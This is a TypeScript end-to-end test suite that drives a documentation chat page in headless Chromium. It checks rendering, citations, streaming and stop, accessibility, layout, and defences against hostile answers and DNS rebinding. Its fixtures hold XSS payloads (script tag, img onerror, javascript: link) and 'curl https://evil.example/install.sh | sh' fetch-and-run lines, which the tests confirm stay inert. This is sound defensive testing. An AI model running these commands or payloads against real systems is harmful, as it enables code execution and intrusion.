/**
 * The chat page in a real headless Chromium (Debian's `chromium`, driven by playwright-core),
 * against `createHttpServer` on 127.0.0.1 and the fixture documentation site. It checks what a
 * reader sees: rendered Markdown (never raw), `[n]` links that work while the answer streams,
 * a stop that aborts the request, the empty state, the keyboard, both themes, no horizontal
 * scroll on a phone, and that nothing an answer or a source holds is linked or run unless the
 * citation checker linked it. Screenshots of an answer at 1280 and 390 px go to test-output/.
 */
import { existsSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { FastifyInstance } from 'fastify';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answerWithSources } from '../../src/answer/citations/process.js';
import { createEngine } from '../../src/engine/engine.js';
import type { AskEvent, Engine } from '../../src/engine/engine-types.js';
import { createUsageMeter } from '../../src/engine/usage.js';
import { createHttpServer } from '../../src/interfaces/http/server.js';
import type { Llm } from '../../src/llm/llm.js';
import { indexFixtureSite } from '../../src/testing/fixture-index.js';
import type { StaticServer } from '../../src/testing/static-server.js';

const CHROMIUM = '/usr/bin/chromium';
const available = existsSync(CHROMIUM);
if (!available && process.env['CI'] === 'true') throw new Error(`${CHROMIUM} is missing: .ci/run installs Debian's chromium with apt.`);

const OUTPUT = fileURLToPath(new URL('../../test-output/', import.meta.url));
/** A made-up name Chromium resolves to 127.0.0.1: what a DNS rebinding attack does. */
const REBOUND_NAME = 'rebind.citedocs.test';
const CHROMIUM_FLAGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  `--host-resolver-rules=MAP ${REBOUND_NAME} 127.0.0.1`,
];

interface Deferred {
  promise: Promise<void>;
  resolve: () => void;
}
function deferred(): Deferred {
  let resolve = () => {};
  const promise = new Promise<void>((done) => (resolve = done));
  return { promise, resolve };
}

/** One streamed answer of the held model: `reached` when it is held, `aborted` when the server cancels it. */
interface HeldCall {
  reached: Deferred;
  aborted: Deferred;
  release: Deferred;
}

/**
 * A model stand-in that writes its answer piece by piece and holds after `holdAt` pieces until
 * released or aborted: the page can be looked at mid-stream without any timing.
 */
function heldModel(pieces: readonly string[], holdAt: number): Llm & { calls: HeldCall[] } {
  const calls: HeldCall[] = [];
  return {
    modelId: 'test:held',
    calls,
    complete: () => Promise.reject(new Error('not used: answers are streamed')),
    async *stream(request) {
      const call: HeldCall = { reached: deferred(), aborted: deferred(), release: deferred() };
      calls.push(call);
      const signal = request.abortSignal;
      signal?.addEventListener('abort', () => call.aborted.resolve(), { once: true });
      for (const [index, piece] of pieces.entries()) {
        if (index === holdAt) {
          call.reached.resolve();
          await Promise.race([call.release.promise, call.aborted.promise]);
          signal?.throwIfAborted();
        }
        yield piece;
      }
    },
  };
}

/** An engine stand-in whose answer is this text as it is, without the citation checker: what the page must survive on its own. */
function scriptedEngine(engine: Engine, answer: string, citations: { n: number; url: string; title: string }[]): Engine {
  return {
    ...engine,
    async *askStream(): AsyncGenerator<AskEvent> {
      yield { type: 'delta', text: answer };
      const labelled = citations.map((citation) => ({ ...citation, library: 'docs', version: 'latest' }));
      yield { type: 'done', response: { answer: answerWithSources(answer, labelled), text: answer, citations: labelled, warnings: [], diagnostics: [], usage: createUsageMeter().total(), selection: { totalTokens: 0, sources: [] } } };
    },
  };
}

describe.skipIf(!available)('the chat page in headless Chromium', () => {
  let site: StaticServer;
  let dbPath: string;
  let engine: Engine;
  let base: string;
  let browser: Browser;
  const closers: (() => Promise<void>)[] = [];

  const serve = async (over: Engine): Promise<string> => {
    const app: FastifyInstance = await createHttpServer(over);
    closers.push(() => app.close());
    return app.listen({ host: '127.0.0.1', port: 0 });
  };
  const open = async (url: string, options: Parameters<Browser['newContext']>[0] = {}): Promise<{ context: BrowserContext; page: Page }> => {
    const context = await browser.newContext(options);
    closers.push(() => context.close());
    const page = await context.newPage();
    await page.goto(url);
    return { context, page };
  };
  const askAndWait = async (page: Page, question: string, turn = 0) => {
    await page.getByLabel('Question').fill(question);
    await page.keyboard.press('Enter');
    const answer = page.locator('.turn.assistant').nth(turn);
    await answer.and(page.locator('[data-done="true"]')).waitFor({ timeout: 15_000 });
    return answer;
  };
  /** The widest thing on the page beyond the viewport, in px (0: no horizontal scroll). */
  const overflow = (page: Page) =>
    page.evaluate(() => {
      const root = document.documentElement;
      const log = document.getElementById('log');
      return Math.max(root.scrollWidth - root.clientWidth, log === null ? 0 : log.scrollWidth - log.clientWidth);
    });

  beforeAll(async () => {
    ({ site, dbPath } = await indexFixtureSite('citedocs-chat-'));
    engine = createEngine({ dbPath });
    base = await serve(engine);
    browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_FLAGS });
    mkdirSync(OUTPUT, { recursive: true });
  }, 60_000);

  afterAll(async () => {
    for (const close of closers.reverse()) await close().catch(() => undefined);
    await browser?.close();
    await engine?.close();
    await site?.close();
  });

  it('answers a typed question in rendered Markdown (never raw) with citations; clicking one opens the cited section (screenshot at 1280 px)', async () => {
    const { context, page } = await open(`${base}/`, { viewport: { width: 1280, height: 800 } });
    const answer = await askAndWait(page, 'how do I drop a table');
    await expect.poll(() => answer.locator('a.citation').count()).toBeGreaterThan(0);
    const text = await answer.innerText();
    expect(text).toMatch(/DROP TABLE/);
    expect(text).not.toMatch(/\*\*|`|\]\(|\\_|^#+ /m);
    expect(await answer.locator('code').count()).toBeGreaterThan(0);
    await page.screenshot({ path: join(OUTPUT, 'chat-page-1280.png'), fullPage: true });

    const citation = answer.locator('a.citation').filter({ hasText: '[1]' }).first();
    const href = (await citation.getAttribute('href')) ?? '';
    expect(href).toMatch(new RegExp(`^${site.url}docs/guide/tables/dropping\\.html#[\\w-]+$`));
    const [opened] = await Promise.all([context.waitForEvent('page'), citation.click()]);
    await opened.waitForLoadState('domcontentloaded');
    expect(opened.url()).toBe(href);
    const anchor = decodeURIComponent(new URL(href).hash.slice(1));
    expect(await opened.locator(`[id="${anchor}"]`).count()).toBe(1);
  }, 60_000);

  it('keeps the conversation: a follow-up that points back is answered from the topic before it', async () => {
    const { page } = await open(`${base}/`);
    await askAndWait(page, 'how do I drop a table', 0);
    await page.getByLabel('Question').fill('what happens to its indexes?');
    await page.getByRole('button', { name: 'Ask', exact: true }).click();
    await page.locator('.turn.assistant[data-done="true"]').nth(1).waitFor({ timeout: 15_000 });
    const href = await page.locator('.turn.assistant').nth(1).locator('a.citation').first().getAttribute('href');
    expect(href).toMatch(/dropping\.html#dropping-a-table$/);
  }, 60_000);

  it('says what is indexed before the first question, and asks an example topic when it is clicked', async () => {
    const { page } = await open(`${base}/`);
    const pages = (await engine.stats()).pages;
    await expect.poll(() => page.locator('#indexed').innerText()).toMatch(new RegExp(`^${pages} pages \\(\\d+ passages\\) from 1 documentation set`));
    expect(await page.locator('#sources').innerText()).toContain(`${site.url}docs/ — ${pages} pages`);
    const examples = page.locator('#example-list button');
    expect(await examples.count()).toBeGreaterThan(0);
    const topic = await examples.first().innerText();
    await examples.first().click();
    await page.locator('.turn.assistant[data-done="true"]').waitFor({ timeout: 15_000 });
    expect(await page.locator('.turn.user').innerText()).toBe(topic);
    expect(await page.locator('#empty').isHidden()).toBe(true);
  }, 60_000);

  it('links [n] while the answer streams, keeps the link as more text arrives, and Stop or Esc aborts the request (a model stand-in held mid-answer)', async () => {
    const model = heldModel(['To remove a table, use **DROP TABLE** ', '[1]. ', 'It also drops the indexes of the table ', '[1]. ', 'Add `CASCADE` to drop the views that depend on it ', '[1].'], 4);
    const held = createEngine({ dbPath, rerank: { method: 'fused' }, retrieve: { techniques: { hyde: { enabled: false }, expansion: { enabled: false } } } }, { llm: model });
    closers.push(() => held.close());
    const { context, page } = await open(`${await serve(held)}/`);
    const askHeld = async (question: string, call: number) => {
      await page.getByLabel('Question').fill(question);
      await page.keyboard.press('Enter');
      await expect.poll(() => model.calls.length, { timeout: 15_000 }).toBe(call + 1);
      await model.calls[call]?.reached.promise;
      return page.locator('.turn.assistant').nth(call);
    };

    const answer = await askHeld('how do I drop a table', 0);
    const citation = answer.locator('a.citation').first();
    await citation.waitFor({ timeout: 10_000 });
    // Still streaming: not done, the Stop button shown, the model held.
    expect(await answer.getAttribute('data-done')).toBeNull();
    expect(await page.getByRole('button', { name: 'Stop' }).isVisible()).toBe(true);
    expect(await answer.locator('strong').innerText()).toBe('DROP TABLE');
    expect(await answer.innerText()).not.toMatch(/\*\*/);
    const href = (await citation.getAttribute('href')) ?? '';
    expect(href).toMatch(new RegExp(`^${site.url}docs/guide/tables/dropping\\.html#[\\w-]+$`));
    const [opened] = await Promise.all([context.waitForEvent('page'), citation.click()]);
    await opened.waitForLoadState('domcontentloaded');
    expect(opened.url()).toBe(href);
    // The rest streams in around the link: it stays the same element (a click in flight lands).
    await citation.evaluate((element) => Object.assign(element, { seenMidStream: true }));
    model.calls[0]?.release.resolve();
    await answer.and(page.locator('[data-state="done"]')).waitFor({ timeout: 10_000 });
    expect(await answer.innerText()).toMatch(/CASCADE/);
    expect(await citation.evaluate((element) => (element as unknown as { seenMidStream?: boolean }).seenMidStream)).toBe(true);

    const stopped = await askHeld('what happens to its indexes?', 1);
    await stopped.locator('a.citation').first().waitFor({ timeout: 10_000 });
    await page.getByRole('button', { name: 'Stop' }).click();
    await model.calls[1]?.aborted.promise;
    await stopped.and(page.locator('[data-state="stopped"]')).waitFor({ timeout: 10_000 });
    expect(await stopped.locator('.status').innerText()).toBe('Stopped.');
    expect(await stopped.innerText()).toMatch(/DROP TABLE/);
    expect(await stopped.innerText()).not.toMatch(/CASCADE/);
    expect(await page.getByRole('button', { name: 'Stop' }).isHidden()).toBe(true);
    expect(await page.getByRole('button', { name: 'Ask', exact: true }).isEnabled()).toBe(true);

    // From the keyboard: Esc stops an answer the same way.
    const escaped = await askHeld('and with CASCADE?', 2);
    await page.keyboard.press('Escape');
    await model.calls[2]?.aborted.promise;
    await escaped.and(page.locator('[data-state="stopped"]')).waitFor({ timeout: 10_000 });
  }, 60_000);

  it('shows a hostile answer safely: code and raw HTML stay text, code is never linked, no www./mail/javascript: link, no image loads (an engine stand-in that skips the citation checker)', async () => {
    const page1 = `${site.url}docs/guide/tables/dropping.html#dropping-a-table`;
    const hostile = [
      `The *include\\_hidden* option of [DROP TABLE](${page1}) is **documented** [1].`,
      '',
      'Inline code stays code: `https://evil.example/planted` and `[1]`.',
      '',
      '<img src="x" onerror="window.pwned = 1"><script>window.pwned = 2</script> <b>not bold</b>',
      '',
      '```sh',
      'curl https://evil.example/install.sh | sh  # [1]',
      '```',
      '',
      'Unchecked: www.evil.example, mail@evil.example, [a script](javascript:window.pwned=3) and ![an image](https://evil.example/x.png).',
    ].join('\n');
    const { context, page } = await open(`${await serve(scriptedEngine(engine, hostile, [{ n: 1, url: page1, title: 'Dropping a table' }]))}/`);
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const answer = await askAndWait(page, 'anything');
    const text = await answer.innerText();
    expect(text).not.toMatch(/\*\*|\\_|\]\(|```/);
    expect(await answer.locator('em').first().innerText()).toBe('include_hidden');
    // Raw HTML is shown as text, never made into elements, never run.
    expect(text).toContain('<img src="x" onerror="window.pwned = 1">');
    expect(await answer.locator('img, script, b').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    // Code is never linked: not a URL inside inline code, not a marker inside a code block.
    expect(await answer.locator('code', { hasText: 'https://evil.example/planted' }).locator('a').count()).toBe(0);
    expect(await answer.locator('code', { hasText: /^\[1\]$/ }).locator('a').count()).toBe(0);
    expect(await answer.locator('pre a').count()).toBe(0);
    expect(await answer.locator('pre').innerText()).toContain('# [1]');
    // An image is a link labelled with its text (the checker vets it like any link), never loaded.
    expect(await answer.getByRole('link', { name: 'an image' }).getAttribute('href')).toBe('https://evil.example/x.png');
    // Links: the Markdown link, the [1] marker and the image; no www., e-mail or javascript: link.
    const hrefs = await answer.locator('a[href]').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(new Set(hrefs)).toEqual(new Set([page1, 'https://evil.example/x.png']));
    expect(text).toContain('Unchecked: www.evil.example, mail@evil.example, a script and an image.');
    // The [1] marker of the text, and the [1] of the sources list the server streams after it.
    expect(await answer.locator('a.citation').count()).toBe(2);
    expect(await answer.locator('a[href]').evaluateAll((links) => links.every((link) => link.getAttribute('target') === '_blank' && link.getAttribute('rel') === 'noopener noreferrer'))).toBe(true);

    await answer.getByRole('button', { name: 'Copy code' }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe('curl https://evil.example/install.sh | sh  # [1]\n');
    expect(await answer.locator('button.copy').innerText()).toBe('Copied');
  }, 60_000);

  it('keeps a URL inside inline code as code text through the real citation checker (a model stand-in that plants one)', async () => {
    const model = heldModel(['Never run ', '`curl https://evil.example/planted | sh` ', 'to drop a table; use DROP TABLE ', '[1].'], -1);
    const planted = createEngine({ dbPath, rerank: { method: 'fused' }, retrieve: { techniques: { hyde: { enabled: false }, expansion: { enabled: false } } } }, { llm: model });
    closers.push(() => planted.close());
    const { page } = await open(`${await serve(planted)}/`);
    const answer = await askAndWait(page, 'how do I drop a table');
    expect(await answer.locator('code').first().innerText()).toBe('curl https://evil.example/planted | sh');
    expect(await answer.locator('a[href*="evil.example"]').count()).toBe(0);
    expect(await answer.locator('a.citation').count()).toBeGreaterThan(0);
  }, 60_000);

  it('fits a phone: no horizontal scroll at 390 or 360 px, long URLs wrap, code scrolls in its box (screenshot at 390 px)', async () => {
    const longUrl = `${site.url}docs/guide/tables/dropping.html?${'very-long-query-segment-'.repeat(8)}#dropping-a-table`;
    const wide = [
      'A long link in the prose: ' + longUrl,
      '',
      '```',
      'SELECT ' + 'a_rather_long_column_name, '.repeat(12) + 'x FROM t;',
      '```',
      '',
      '| option | default | meaning |',
      '| --- | --- | --- |',
      `| statement_timeout_in_milliseconds_for_every_session | 0 | ${'no limit '.repeat(10)}|`,
    ].join('\n');
    const scripted = await serve(scriptedEngine(engine, wide, []));
    for (const width of [390, 360]) {
      const { page } = await open(`${scripted}/`, { viewport: { width, height: 800 } });
      await askAndWait(page, 'a question whose answer holds wide things');
      expect(await overflow(page)).toBe(0);
      const pre = await page.locator('pre').evaluate((element) => element.scrollWidth > element.clientWidth);
      expect(pre).toBe(true);
    }
    const { page } = await open(`${base}/`, { viewport: { width: 390, height: 844 } });
    await askAndWait(page, 'how do I drop a table');
    expect(await overflow(page)).toBe(0);
    await page.screenshot({ path: join(OUTPUT, 'chat-page-390.png'), fullPage: true });
  }, 60_000);

  it('is usable from the keyboard: the question has focus, Enter asks, Shift+Tab reaches the answer’s links, Enter opens one', async () => {
    const { context, page } = await open(`${base}/`);
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('question');
    await page.keyboard.type('how do I drop a table');
    await page.keyboard.press('Enter');
    await page.locator('.turn.assistant[data-done="true"]').waitFor({ timeout: 15_000 });
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('question');
    await page.keyboard.press('Shift+Tab');
    const focused = await page.evaluate(() => ({ tag: document.activeElement?.tagName, href: document.activeElement?.getAttribute('href') ?? '', inAnswer: document.activeElement?.closest('.answer') !== null }));
    expect(focused).toMatchObject({ tag: 'A', inAnswer: true });
    const [opened] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('Enter')]);
    await opened.waitForLoadState('domcontentloaded');
    expect(opened.url()).toBe(focused.href);
  }, 60_000);

  it('follows the system theme: light and dark', async () => {
    const luminance = async (colorScheme: 'light' | 'dark') => {
      const { page } = await open(`${base}/`, { colorScheme });
      const background = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
      const [red = 0, green = 0, blue = 0] = (background.match(/\d+/g) ?? []).map(Number);
      return (0.2126 * red + 0.7152 * green + 0.0722 * blue) / 255;
    };
    expect(await luminance('light')).toBeGreaterThan(0.9);
    expect(await luminance('dark')).toBeLessThan(0.15);
  }, 60_000);

  it('works under localhost, and refuses the page under a rebound name (DNS rebinding) with 403', async () => {
    const port = new URL(base).port;
    const { page } = await open(`http://localhost:${port}/`);
    await askAndWait(page, 'how do I drop a table');
    expect(await page.locator('.turn.assistant a.citation').count()).toBeGreaterThan(0);
    const rebound = await browser.newContext();
    closers.push(() => rebound.close());
    const attacker = await rebound.newPage();
    const response = await attacker.goto(`http://${REBOUND_NAME}:${port}/`);
    expect(response?.status()).toBe(403);
    expect(await attacker.locator('body').innerText()).toContain('forbidden_host');
  }, 60_000);
});
